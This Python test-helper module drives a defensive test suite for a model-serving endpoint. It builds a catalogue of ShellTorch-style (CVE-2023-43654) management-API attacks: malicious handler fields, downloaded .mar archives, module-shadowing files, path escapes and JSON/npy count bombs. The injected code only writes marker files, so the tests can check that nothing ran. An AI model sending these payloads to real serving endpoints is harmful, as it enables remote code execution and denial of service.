"""The hostile client: attacks on the serving endpoint, shared by the process-mode suite
(tests/serve/test_serve_hostile.py) and the pass against the serving image
(tests/containers/test_containers_serve_hostile.py).

Every attack that would run code makes that code write a marker file under ``<model root>/markers/``
(visible from the test in both modes: the model root is the container's mounted ``/opt/ml/models``), so
"nothing ran" is checked on the file system, not inferred from a status code. The code-running attacks
are the ShellTorch pattern (CVE-2023-43654) against multi-model-server 1.1.11's management API:

* a ``handler`` field naming any module (MMS ``RegisterModelRequest``; the handler's folder goes first on
  the worker's ``PYTHONPATH``, ``WorkerLifeCycle.getEnvString``),
* an ``http(s)://`` url (MMS ``ModelArchive.downloadModel`` downloads and unzips a ``.mar``),
* a model directory carrying ``MAR-INF/MANIFEST.json`` with its own handler, or a ``torch.py`` / ``mms/``
  that the worker would import instead of the real package (the model directory is on ``PYTHONPATH``
  ahead of site-packages),

plus every other field, the query-string form, urls outside the model root, and MMS routes SageMaker
never calls. tests/serve/test_serve_hostile.py shows the first three do run code on a bare MMS.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import io
import json
import shutil
import socket
import threading
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import psutil
import pytest
from PIL import Image

from byoc_common.architectures import build_classifier
from byoc_common.artifact import ModelConfig, save_model_artifact

CLASSES = ["cat", "dog", "fox"]
VICTIM = "victim"  # the model every endpoint under attack has loaded
BOMB_MEMORY_LIMIT = 100 * 1024 * 1024   # the issue: the worker grows less than 100 MB
EVIL_MODULE = "byoc_hostile_probe"
PING_LIMIT_S = 2.0  # SageMaker: "your container must respond to /ping requests within 2 seconds"
# Small gate limits, so the stalled-connection attacks end in seconds (container_serve.settings).
GATE_ENV = {"BYOC_GATE_IDLE_TIMEOUT_S": "3", "BYOC_GATE_HEAD_TIMEOUT_S": "2", "BYOC_GATE_BODY_TIMEOUT_S": "3",
            "BYOC_GATE_MAX_CONNECTIONS": "64"}
ANSWER_DEADLINE_S = 60  # a socket read that gets nothing for this long fails the test (no hang)


def write_model(model_dir: Path) -> Path:
    """A real artifact in the project's format (random resnet18 weights, 32 px)."""
    config = ModelConfig(arch="resnet18", num_classes=len(CLASSES), image_size=32,
                         resize_size=ModelConfig.default_resize(32))
    return save_model_artifact(model_dir, build_classifier("resnet18", len(CLASSES)), CLASSES, config)


def jpeg(color=(200, 30, 30), size=(48, 40)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, format="JPEG")
    return buf.getvalue()


def npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr)
    return buf.getvalue()


def tiny_png_b64() -> str:
    buf = io.BytesIO()
    Image.new("RGB", (1, 1)).save(buf, format="PNG")
    return base64.b64encode(buf.getvalue()).decode()


def npy_header_only(shape: tuple[int, ...]) -> bytes:
    """A valid .npy header claiming ``shape`` of uint8, and no data after it."""
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "|u1", "fortran_order": False, "shape": shape})
    return buf.getvalue()


# Count bombs: tiny bodies that would each decode into thousands of model inputs (or terabytes), or cost
# the body checks themselves quadratic time. Each maps to (body, content type, the words of the check
# that must refuse it: the signal that it was refused by a bound checked before any decoding).
COUNT_BOMBS = {
    "npy of 2000 one-pixel images (6 KB)": (lambda: npy(np.zeros((2000, 1, 1, 3), np.uint8)), "application/x-npy",
                                            "images"),
    "npy header claiming 1.75 TiB": (lambda: npy_header_only((7, 1024, 1024, 256, 1024)), "application/x-npy",
                                     "bytes"),
    "json list of 5000 base64 images": (lambda: json.dumps([tiny_png_b64()] * 5000).encode(), "application/json",
                                        "images"),
    "json instances of 5000 base64 images": (
        lambda: json.dumps({"instances": [tiny_png_b64()] * 5000}).encode(), "application/json", "images"),
    "json nested list of 5000 images": (lambda: json.dumps(np.zeros((5000, 1, 1, 3), int).tolist()).encode(),
                                        "application/json", "images"),
    "json nested 100000 deep": (lambda: b"[" * 100_000 + b"]" * 100_000, "application/json", "levels deep"),
    "json integer of 5000 digits": (lambda: b"[" + b"7" * 5000 + b"]", "application/json", "characters"),
    "json string of 12000 escaped quotes": (lambda: b'["' + b'\\"' * 12_000, "application/json", "malformed JSON"),
}


# ---- the wire, below the HTTP client: what a client that does not follow the protocol sends ------------------

def raw_exchange(port: int, data: bytes, sock: socket.socket | None = None) -> bytes:
    """Send ``data`` and read until the server closes the connection (``ANSWER_DEADLINE_S`` of silence
    fails the test)."""
    own = sock is None
    sock = sock or socket.create_connection(("127.0.0.1", port), timeout=ANSWER_DEADLINE_S)
    try:
        sock.sendall(data)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
        return b"".join(chunks)
    finally:
        if own:
            sock.close()


def json_answer(raw: bytes) -> tuple[int, dict]:
    """(status, JSON body) of the one response in ``raw``; asserts the handler's error shape."""
    head, _, body = raw.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    doc = json.loads(body)
    assert doc["code"] == status and doc["error"], doc
    return status, doc


def ping_during(ep, attack, *args) -> list:
    """Run ``attack(*args)`` in threads (one per args tuple) and ping the endpoint until all are done:
    every ping must be answered 200 within PING_LIMIT_S (the request's own deadline). Returns the
    attacks' results."""
    results: list = [None] * len(args)

    def run(i):
        results[i] = attack(*args[i])

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(args))]
    for t in threads:
        t.start()
    pings = 0
    while any(t.is_alive() for t in threads) or pings == 0:
        assert ep.client.request("GET", "/ping", timeout=PING_LIMIT_S).status == 200
        pings += 1
    for t in threads:
        t.join()
    return results


class MarHost:
    """An http server on 127.0.0.1 that serves an evil ``.mar`` and counts who asked for it."""

    def __init__(self, mar: bytes):
        hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's naming
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", str(len(mar)))
                self.end_headers()
                self.wfile.write(mar)

            def log_message(self, *args):
                pass

        self.hits = hits
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/evil.mar"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@dataclass
class Stage:
    """Where attacks are prepared: ``host_root`` is the model root as the test sees it, ``server_url``
    maps a path under it to the path the server sees (``LocalEndpoint.model_url``)."""

    host_root: Path
    server_url: object  # Callable[[str], str]

    @property
    def markers(self) -> Path:
        return self.host_root / "markers"

    def marker_code(self, tag: str) -> str:
        marker = self.server_url(f"markers/{tag}")
        return (f"import os\nos.makedirs(os.path.dirname({marker!r}), exist_ok=True)\n"
                f"open({marker!r}, 'w').write('code from the request ran')\n"
                "def handle(data, context):\n    return None\n")

    def markers_found(self) -> list[str]:
        return sorted(p.name for p in self.markers.glob("*")) if self.markers.exists() else []

    def good_model(self, name: str) -> str:
        target = self.host_root / name
        template = self.host_root / ".template"
        if not template.exists():
            write_model(template)
        if not target.exists():
            shutil.copytree(template, target)
        return self.server_url(name)

    def evil_module(self, tag: str) -> str:
        """A module file outside any model directory; returns its server path."""
        folder = self.host_root / f"attack-{tag}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{EVIL_MODULE}_{tag}.py").write_text(self.marker_code(tag))
        return self.server_url(f"attack-{tag}/{EVIL_MODULE}_{tag}.py")

    def model_with(self, name: str, files: dict[str, str]) -> str:
        """A good model directory plus ``files`` (relative path -> text, ``{code}`` -> marker code)."""
        url = self.good_model(name)
        for rel, text in files.items():
            path = self.host_root / name / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text.replace("{code}", self.marker_code(name)))
        return url

    def mar_bytes(self, tag: str) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("MAR-INF/MANIFEST.json", manifest(f"{EVIL_MODULE}_{tag}:handle"))
            z.writestr(f"{EVIL_MODULE}_{tag}.py", self.marker_code(tag))
        return buf.getvalue()


def manifest(handler: str) -> str:
    return json.dumps({"specificationVersion": "1.0", "runtime": "python",
                       "model": {"modelName": "evil", "handler": handler}})


ATTACK_NAMES = (
    "handler field", "query-string form", "query-string form with a JSON body", "form-encoded body",
    "http url (.mar download)", "https url", "upper-case HTTP url", "file url", "s3 url", "relative url",
    "MAR-INF manifest in the model directory", "legacy MANIFEST.json", "torch.py shadowing torch",
    "mms package shadowing mms", "hidden file", "a .mar file under the root", "symlink out of the root",
    "url outside the model root", "url with ..", "runtime field", "initial_workers field", "batch_size field",
    "duplicate url field", "no content type", "bad model name", "scale workers (PUT)", "API description",
    "api-description route", "predictions route", "legacy predict route", "query string on invoke",
)


def load_attacks(stage: Stage, mar_url: str) -> dict[str, tuple[str, str, bytes, str | None]]:
    """name -> (method, path, body, content type) of every attack in ATTACK_NAMES."""
    good = stage.good_model(VICTIM)
    handler = stage.evil_module("handler-field") + ":handle"

    def body(**fields) -> bytes:
        return json.dumps(fields).encode()

    attacks = {
        "handler field": ("POST", "/models", body(model_name="evil-a", url=good, handler=handler), "application/json"),
        "query-string form": ("POST", f"/models?model_name=evil-b&url={good}&handler={handler}", b"", None),
        "query-string form with a JSON body": (
            "POST", f"/models?handler={handler}", body(model_name="evil-c", url=good), "application/json"),
        "form-encoded body": ("POST", "/models", f"model_name=evil-d&url={good}&handler={handler}".encode(),
                              "application/x-www-form-urlencoded"),
        "http url (.mar download)": ("POST", "/models", body(model_name="evil-e", url=mar_url), "application/json"),
        "https url": ("POST", "/models", body(model_name="evil-f", url=mar_url.replace("http:", "https:")),
                      "application/json"),
        "upper-case HTTP url": ("POST", "/models", body(model_name="evil-g", url=mar_url.upper()), "application/json"),
        "file url": ("POST", "/models", body(model_name="evil-h", url="file://" + good), "application/json"),
        "s3 url": ("POST", "/models", body(model_name="evil-i", url="s3://bucket/evil.mar"), "application/json"),
        "relative url": ("POST", "/models", body(model_name="evil-j", url="victim"), "application/json"),
        "MAR-INF manifest in the model directory": ("POST", "/models", body(
            model_name="evil-k", url=stage.model_with("with-manifest", {
                "MAR-INF/MANIFEST.json": manifest("with-manifest-code:handle"),
                "with-manifest-code.py": "{code}"})), "application/json"),
        "legacy MANIFEST.json": ("POST", "/models", body(model_name="evil-l", url=stage.model_with(
            "with-legacy", {"MANIFEST.json": json.dumps({"Model": {"Service": "svc.py"}}), "svc.py": "{code}"})),
            "application/json"),
        "torch.py shadowing torch": ("POST", "/models", body(
            model_name="evil-m", url=stage.model_with("with-torch", {"torch.py": "{code}"})), "application/json"),
        "mms package shadowing mms": ("POST", "/models", body(
            model_name="evil-n", url=stage.model_with("with-mms", {"mms/__init__.py": "{code}"})), "application/json"),
        "hidden file": ("POST", "/models", body(  # a hidden .py (a .pth is inert off site dirs: model_layout)
            model_name="evil-o", url=stage.model_with("with-hidden", {".sitecustomize.py": "{code}"})),
            "application/json"),
        "a .mar file under the root": ("POST", "/models", body(model_name="evil-p", url=_write_mar(stage)),
                                       "application/json"),
        "symlink out of the root": ("POST", "/models", body(model_name="evil-q", url=_symlink_out(stage)),
                                    "application/json"),
        "url outside the model root": ("POST", "/models", body(model_name="evil-r", url="/etc"), "application/json"),
        "url with ..": ("POST", "/models", body(model_name="evil-s", url=good + "/../victim"), "application/json"),
        "runtime field": ("POST", "/models", body(model_name="evil-t", url=good, runtime="python3"), "application/json"),
        "initial_workers field": ("POST", "/models", body(model_name="evil-u", url=good, initial_workers=64),
                                  "application/json"),
        "batch_size field": ("POST", "/models", body(model_name="evil-v", url=good, batch_size=4096), "application/json"),
        "duplicate url field": ("POST", "/models", b'{"model_name": "evil-w", "url": "%s", "url": "%s"}'
                                % (good.encode(), mar_url.encode()), "application/json"),
        "no content type": ("POST", "/models", body(model_name="evil-x", url=good), None),
        "bad model name": ("POST", "/models", body(model_name="../evil", url=good), "application/json"),
        "scale workers (PUT)": ("PUT", "/models/victim?min_worker=64", b"", None),
        "API description": ("OPTIONS", "/", b"", None),
        "api-description route": ("GET", "/api-description", b"", None),
        "predictions route": ("POST", "/predictions/victim", jpeg(), "image/jpeg"),
        "legacy predict route": ("POST", "/victim/predict", jpeg(), "image/jpeg"),
        "query string on invoke": ("POST", "/models/victim/invoke?body=x", jpeg(), "image/jpeg"),
    }
    assert tuple(attacks) == ATTACK_NAMES
    return attacks


def _write_mar(stage: Stage) -> str:
    (stage.host_root / "evil.mar").write_bytes(stage.mar_bytes("mar-file"))
    return stage.server_url("evil.mar")


def _symlink_out(stage: Stage) -> str:
    outside = stage.host_root.parent / "outside-model"
    write_model(outside)
    (outside / "MAR-INF").mkdir(exist_ok=True)
    (outside / "MAR-INF" / "MANIFEST.json").write_text(manifest("outside:handle"))
    link = stage.host_root / "linked"
    if not link.is_symlink():
        link.symlink_to("../outside-model")
    return stage.server_url("linked")


# ---- fixtures shared by both suites (each module defines ``endpoint``) ----------------------------------------

def load_victim(ep) -> None:
    """Deploy and load VICTIM on a fresh multi-model endpoint; remember its worker processes."""
    Stage(ep.model_root, ep.model_url).good_model(VICTIM)
    reply = ep.client.load_model(VICTIM, ep.model_url(VICTIM))
    assert reply.status == 200, reply.body
    ep.workers_at_start = [(p.pid, p.create_time()) for p in worker_processes(VICTIM, ep.port)]
    assert ep.workers_at_start, "the worker serving the model is not visible from the test"


@pytest.fixture(scope="module", name="stage")
def stage_fixture(endpoint):
    return Stage(endpoint.model_root, endpoint.model_url)


@pytest.fixture(scope="module", name="mar_host")
def mar_host_fixture(stage):
    host = MarHost(stage.mar_bytes("downloaded-mar"))
    yield host
    host.close()


@pytest.fixture(scope="module", name="attacks")
def attacks_fixture(stage, mar_host):
    return load_attacks(stage, mar_host.url)


# ---- the worker's memory ------------------------------------------------------------------------------

def worker_processes(model_name: str, port: int | None = None) -> list[psutil.Process]:
    """MMS python workers serving ``model_name`` (the listener and its forked, model-holding child); with
    ``port``, only those of the server listening there (other test sessions on the host may serve a
    model of the same name: seen as a flake while several suites ran at once)."""
    mine = _server_processes(port) if port is not None else None
    found = []
    for p in psutil.process_iter(["cmdline"]):
        cmd = p.info["cmdline"] or []
        if any("model_service_worker" in c for c in cmd) and "--model-name" in cmd \
                and cmd[cmd.index("--model-name") + 1] == model_name and (not mine or p.pid in mine):
            found.append(p)
    return found


def _server_processes(port: int) -> set[int]:
    """The process listening on ``port`` (the gate's, in process or container mode: --network host) and
    all its descendants; empty when the listener is not visible to this user."""
    pids: set[int] = set()
    for conn in psutil.net_connections("tcp"):
        if conn.status == psutil.CONN_LISTEN and conn.laddr.port == port and conn.pid:
            with contextlib.suppress(psutil.NoSuchProcess):
                gate = psutil.Process(conn.pid)
                pids |= {gate.pid, *(c.pid for c in gate.children(recursive=True))}
    return pids


class PeakMemory:
    """Peak resident memory of processes since construction (Linux ``VmHWM``, reset via clear_refs)."""

    def __init__(self, procs: list[psutil.Process]):
        self.procs = procs
        self.start = {}
        for p in procs:
            Path(f"/proc/{p.pid}/clear_refs").write_text("5")  # reset the high-water mark to the current RSS
            self.start[p.pid] = _status_kib(p.pid, "VmRSS")

    def growth_bytes(self) -> int:
        return max((_status_kib(p.pid, "VmHWM") - self.start[p.pid]) * 1024 for p in self.procs)


def _status_kib(pid: int, key: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1])
    raise KeyError(key)


def write_cgroup(folder, limit: str) -> None:
    """Write the two cgroup v2 files a model load reads (``memory.current``, ``memory.max``) into
    ``folder``, the test's stand-in for the container's cgroup (``BYOC_CGROUP_DIR``): a 507 then
    depends on the figure the test chose, not on this machine's free memory."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "memory.current").write_text("0\n")
    (folder / "memory.max").write_text(limit + "\n")
